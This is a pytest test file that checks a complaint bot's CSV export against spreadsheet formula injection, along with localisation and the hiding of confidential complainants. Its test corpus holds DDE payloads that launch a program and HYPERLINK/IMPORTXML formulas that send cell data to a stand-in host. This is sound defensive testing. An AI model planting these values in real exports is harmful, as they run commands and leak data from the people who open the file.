"""Whatever people write stays a text in every spreadsheet, also in one that goes by another separator than ours."""

from __future__ import annotations

import csv
from collections.abc import AsyncIterator
from dataclasses import replace
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.catalogs import LANGUAGES, load
from bot.spreadsheet import COLUMNS, lines, safe
from conversations.complaint import Complaint
from storage.records import Exported
from tests.mail.complaints import BOOK, CATALOG, ESCALATED

CORPUS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\u00a0=1", "＝1+1", "＋1", "－1", "＠x",
    "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+62 812 3456 7890",
    '=HYPERLINK("https://jahat.example/?x="&A1;"klik")', '=IMPORTXML(CONCAT("https://jahat.example",A1),"//a")',
    "baik,=1+1", "baik;=1+1", "baik\t=1+1", "baik\n=1+1", "baik\r\n=1+1", "baik\n\n  @x", 'baik, "=1+1', 'baik;""=1+1',
    '";=1+1', '",=1+1', '"\n=1+1;"', "'=1", "a,=1,=2;=3", '"=1', ' " =1', 'a, " " =1',
)  # fmt: skip
HARMLESS = (
    "",
    "Siti",
    "AMS menolak: kode 3-4, a=b.",
    "5 + 5 = 10; selesai",
    "surel@kota.example",
    "'kutip'",
    "a;b,c",
    '"x"',
)
FORMULA = tuple("=+-@＝＋－＠")
SEPARATORS = (";", ",", "\t")


async def table(*complaints: Complaint, language: str = "en") -> str:
    async def rows() -> AsyncIterator[Exported]:
        for complaint in complaints:
            yield Exported(complaint, None, None, None)

    return "".join([line async for line in lines(rows(), BOOK, load(BOOK.service.zone.tz)[language])])


def read(text: str, separator: str = ";") -> list[list[str]]:
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator))


def runs(cell: str) -> bool:
    return cell.lstrip(' "').lstrip().startswith(FORMULA)


@pytest.mark.parametrize("evil", CORPUS)
async def test_what_a_spreadsheet_would_run_is_a_text_whatever_separates_its_cells(evil: str) -> None:
    text = await table(replace(ESCALATED, text=evil, name=evil, unit=evil, holder_name=evil, category=evil))
    for separator in SEPARATORS:
        assert [cell for row in read(text, separator) for cell in row if runs(cell)] == []
    (_, row) = read(text)
    assert row[3] == row[11] == row[12] == row[13] == row[14] == safe(evil)
    assert row[14].replace("'", "") == evil.replace("'", ""), "apostrophes come in, and nothing goes"


@pytest.mark.parametrize("text", HARMLESS)
async def test_other_words_stay_as_they_were_written(text: str) -> None:
    (_, row) = read(await table(replace(ESCALATED, text=text)))
    assert row[14] == text


@given(st.lists(st.one_of(st.text(max_size=20), st.text("=+-@,;\t\r\n \"'x", max_size=12)), min_size=1, max_size=4))
async def test_no_text_at_all_begins_a_formula(texts: list[str]) -> None:
    text = await table(*(replace(ESCALATED, text=words, name=words[::-1]) for words in texts))
    for separator in SEPARATORS:
        assert [cell for row in read(text, separator) for cell in row if runs(cell)] == []
    assert [row[14] for row in read(text)[1:]] == [safe(words) for words in texts]


@pytest.mark.parametrize("language", LANGUAGES)
async def test_the_table_speaks_the_language_of_its_reader(language: str) -> None:
    titles, row = read(await table(ESCALATED, language=language))
    assert len(titles) == len(row) == len(COLUMNS)
    words = {"id": ("Nomor", "Pejabat pengaduan", "tidak"), "en": ("Number", "Complaints official", "no")}
    assert (titles[0], row[2], row[4]) == words[language]
    assert row[5:9] == ["2026-11-23 09:00", "2026-11-24 16:00", "", ""]


async def test_it_opens_by_a_double_click() -> None:
    text = await table(ESCALATED)
    assert text.encode().startswith(b'\xef\xbb\xbf"Number";"State";')


async def test_who_complained_in_confidence_is_not_told() -> None:
    (_, row) = read(await table(replace(ESCALATED, confidential=True, text="RAHASIA", name="RAHASIA", unit="RAHASIA")))
    assert row[4] == CATALOG.messages["yes"]
    assert row[12:15] == ["", "", ""]
